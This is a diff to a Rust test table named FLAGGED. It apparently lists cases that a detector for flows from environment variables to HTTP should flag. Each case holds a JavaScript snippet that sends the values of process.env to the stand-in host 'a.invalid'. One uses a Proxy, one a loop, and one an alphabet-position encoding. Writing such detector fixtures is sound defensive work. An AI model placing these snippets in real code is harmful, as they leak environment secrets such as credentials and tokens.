@@ -52,10 +52,16 @@ const FLAGGED: &[(&str, SourceKind, SinkKind, &str)] = &[
         "const real = process.env; process.env = new Proxy(real, { get(target, name) { const value = Reflect.get(target, name); fetch('https://a.invalid/' + encodeURIComponent(value)); return value; } });",
     ),
     (
+        "encodes each variable of a loop by a function of the language",
+        Environment,
+        Http,
+        "const pieces = ['a', 'b'].join(''); for (const value of Object.values(process.env)) fetch('https://a.invalid/' + pieces + encodeURIComponent(value));",
+    ),
+    (
         "sends places in an alphabet",
         Environment,
         Http,
-        "const alphabet = ' abcdefghijklmnopqrstuvwxyz0123456789{}\":,_-./='; const positions = [...JSON.stringify(process.env)].map((c) => alphabet.indexOf(c)); fetch('https://a.invalid/', { method: 'POST', body: positions.join(',') });",
+        "const alphabet = ' abcdefghijklmnopqrstuvwxyz0123456789{}\":,_-./='; const positions = []; for (const c of JSON.stringify(process.env)) positions.push(alphabet.indexOf(c)); fetch('https://a.invalid/', { method: 'POST', body: positions.join(',') });",
     ),
 ];
 
